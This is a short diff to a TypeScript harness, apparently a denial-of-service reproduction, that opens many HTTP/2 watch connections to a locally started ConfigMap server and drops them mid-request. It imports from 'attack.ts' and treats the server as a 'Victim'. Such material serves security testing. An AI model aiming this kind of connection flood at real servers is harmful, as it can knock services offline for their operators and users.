@@ -6,7 +6,7 @@
 import http2 from 'node:http2';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { parseArgs } from 'node:util';
-import { type Victim, CONFIG_MAPS, configMap, connect, send } from './attack.ts';
+import { type Victim, CONFIG_MAPS, configMap, connect, ignoreErrorsBelow, send } from './attack.ts';
 import { prepareUsers, startTarget } from './target.ts';
 
 const SECONDS_A_SAMPLE = 10;
@@ -54,7 +54,7 @@ async function work(victim: Victim, round: number): Promise<void> {
 /** A connection of watches that lives for a few seconds, and one that breaks in the middle of a request. */
 async function comeAndGo(victim: Victim): Promise<void> {
   const session = http2.connect(victim.url, { rejectUnauthorized: false });
-  session.on('error', () => {});
+  session.on('error', () => {}).on('connect', ignoreErrorsBelow);
   for (let count = 0; count < 20; count++) {
     session.request({ ':path': `${CONFIG_MAPS}?watch=1`, authorization: 'Bearer alice-token' }).on('error', () => {}).resume();
   }
